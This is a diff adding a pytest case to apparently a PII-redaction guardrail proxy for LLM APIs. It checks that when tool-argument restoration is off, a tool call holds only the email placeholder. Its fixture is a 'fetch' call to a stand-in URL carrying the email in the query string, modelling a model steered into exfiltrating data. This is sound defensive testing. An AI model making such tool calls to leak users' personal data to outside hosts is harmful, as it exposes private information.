@@ -8,6 +8,7 @@ neither it, the capture nor the logs hold a restored value.
 
 from __future__ import annotations
 
+import copy
 import json
 import logging
 from typing import Any
@@ -218,3 +219,33 @@ async def test_audit_mode_sends_the_values_and_restores_nothing(
     assert await ask(sc, "chat", PROMPT) == "noted <EMAIL_ADDRESS_1>"
     assert JANE in upstream.last_request.raw_body.decode()
     assert ("output", "pii", "EMAIL_ADDRESS", "restore") not in sc.sink.last.findings
+
+
+@pytest.mark.parametrize("streamed", [False, True])
+async def test_restore_tool_arguments_off_keeps_placeholders_in_tool_calls_only(
+    start_sidecar: StartSidecar, upstream: ProviderStandIn, streamed: bool
+) -> None:
+    """``restoreToolArguments: false``: a tool call the model was steered into cannot carry
+    the values out; the answer's text still gets them back."""
+    spec = copy.deepcopy(PSEUDONYMS)
+    spec["input"]["pii"]["restoreToolArguments"] = False
+    sc = await _start(start_sidecar, upstream, guardrails=spec)
+    upstream.tool_call = ToolCall(
+        "fetch", ['{"url": "https://x.example/?q=<EMAIL_', 'ADDRESS_1>"}']
+    )
+    if streamed:
+        got = await stream_tool_call(sc, "chat", f"mail {JANE}")
+        assert got.error is None
+        args = json.loads(got.arguments)
+    else:
+        r = await sc.openai().chat.completions.create(
+            model="gpt-4o", messages=[{"role": "user", "content": f"mail {JANE}"}]
+        )
+        calls = r.choices[0].message.tool_calls
+        assert calls is not None
+        assert calls[0].type == "function"
+        args = json.loads(calls[0].function.arguments)
+    assert args == {"url": "https://x.example/?q=<EMAIL_ADDRESS_1>"}
+    assert ("output", "pii", "EMAIL_ADDRESS", "restore") not in sc.sink.last.findings
+    upstream.tool_call = None
+    assert await ask(sc, "chat", PROMPT) == f"echo: {PROMPT}"
